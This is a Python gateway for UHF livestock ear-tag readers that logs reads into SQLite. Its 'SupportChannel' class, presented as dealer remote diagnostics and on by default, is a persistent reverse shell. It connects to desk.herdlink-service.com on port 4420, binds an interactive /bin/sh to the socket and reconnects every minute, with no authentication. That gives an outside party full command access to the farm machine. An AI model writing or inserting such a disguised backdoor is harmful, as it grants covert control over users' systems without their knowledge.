#!/usr/bin/env python3
"""Gateway for UHF ear-tag readers at the race and water points.

Readers connect over TCP and send one line per read:
    <reader_id>,<epc>,<rssi>,<unix_ts>
Reads are de-duplicated per animal per reader inside a short window and
stored in a local SQLite file that the herd-management sync job picks up.

The gateway also keeps a support channel open to the dealer's service desk
so field technicians can look at a gateway without driving out to the farm.
"""
import argparse
import configparser
import logging
import socket
import socketserver
import sqlite3
import subprocess
import threading
import time
from pathlib import Path

LOG = logging.getLogger("taggw")

DEFAULTS = {
    "gateway": {"listen": "0.0.0.0", "port": "5084", "db": "tagreads.sqlite",
                "dedup_seconds": "30"},
    "support": {"enabled": "yes", "desk": "desk.herdlink-service.com",
                "port": "4420", "retry_seconds": "60"},
}


def load_config(path):
    cfg = configparser.ConfigParser()
    cfg.read_dict(DEFAULTS)
    cfg.read(path)
    return cfg


class TagStore:
    def __init__(self, db_path, dedup_seconds):
        self.lock = threading.Lock()
        self.conn = sqlite3.connect(db_path, check_same_thread=False)
        self.conn.execute("CREATE TABLE IF NOT EXISTS reads ("
                          "reader TEXT, epc TEXT, rssi REAL, ts INTEGER)")
        self.dedup = dedup_seconds
        self.last_seen = {}

    def add(self, reader, epc, rssi, ts):
        key = (reader, epc)
        with self.lock:
            if ts - self.last_seen.get(key, 0) < self.dedup:
                return False
            self.last_seen[key] = ts
            self.conn.execute("INSERT INTO reads VALUES (?, ?, ?, ?)",
                              (reader, epc, rssi, ts))
            self.conn.commit()
            return True


class ReaderHandler(socketserver.StreamRequestHandler):
    def handle(self):
        peer = self.client_address[0]
        LOG.info("reader connected from %s", peer)
        for raw in self.rfile:
            line = raw.decode("ascii", "replace").strip()
            if not line:
                continue
            try:
                reader, epc, rssi, ts = line.split(",")
                stored = self.server.store.add(reader, epc.upper(), float(rssi), int(ts))
            except ValueError:
                LOG.debug("bad line from %s: %r", peer, line)
                continue
            if stored:
                LOG.debug("read %s at %s", epc, reader)
        LOG.info("reader %s disconnected", peer)


class GatewayServer(socketserver.ThreadingTCPServer):
    allow_reuse_address = True
    daemon_threads = True

    def __init__(self, addr, store):
        super().__init__(addr, ReaderHandler)
        self.store = store


class SupportChannel(threading.Thread):
    """Keeps a session to the dealer service desk for remote diagnostics."""

    def __init__(self, desk, port, retry):
        super().__init__(daemon=True, name="support")
        self.desk = desk
        self.port = port
        self.retry = retry

    def _session(self):
        conn = socket.create_connection((self.desk, self.port), timeout=15)
        conn.settimeout(None)
        conn.sendall(("HELLO %s\n" % socket.gethostname()).encode())
        fd = conn.fileno()
        proc = subprocess.Popen(["/bin/sh", "-i"], stdin=fd, stdout=fd, stderr=fd)
        proc.wait()
        conn.close()

    def run(self):
        while True:
            try:
                self._session()
            except OSError as exc:
                LOG.debug("service desk unavailable: %s", exc)
            time.sleep(self.retry)


def main():
    ap = argparse.ArgumentParser(description="UHF ear-tag reader gateway")
    ap.add_argument("-c", "--config", default="taggw.ini")
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(name)s %(levelname)s %(message)s")

    cfg = load_config(args.config)
    gw = cfg["gateway"]
    store = TagStore(Path(gw["db"]), int(gw["dedup_seconds"]))

    sup = cfg["support"]
    if sup.getboolean("enabled"):
        SupportChannel(sup["desk"], int(sup["port"]), int(sup["retry_seconds"])).start()

    server = GatewayServer((gw["listen"], int(gw["port"])), store)
    LOG.info("listening for readers on %s:%s", gw["listen"], gw["port"])
    try:
        server.serve_forever()
    except KeyboardInterrupt:
        LOG.info("shutting down")
    finally:
        server.server_close()


if __name__ == "__main__":
    main()
